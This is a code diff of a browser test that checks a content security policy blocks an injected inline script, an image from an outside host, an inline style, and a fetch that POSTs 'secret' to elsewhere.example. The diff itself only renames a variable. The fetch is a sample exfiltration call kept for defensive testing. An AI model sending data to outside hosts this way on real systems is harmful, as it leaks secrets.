@@ -15,10 +15,10 @@ test('the browser refuses what the policy does not name', async ({ page, complai
     const script = document.createElement('script')
     script.textContent = 'window.name = "run"'
     document.head.append(script)
-    const picture = document.createElement('img')
-    picture.src = 'https://elsewhere.example/pixel.gif'
-    picture.setAttribute('style', 'color: red')
-    document.body.append(picture)
+    const image = document.createElement('img')
+    image.src = 'https://elsewhere.example/pixel.gif'
+    image.setAttribute('style', 'color: red')
+    document.body.append(image)
   })
   const sent = await page.evaluate(() =>
     fetch('https://elsewhere.example/', { method: 'POST', body: 'secret' }).then(
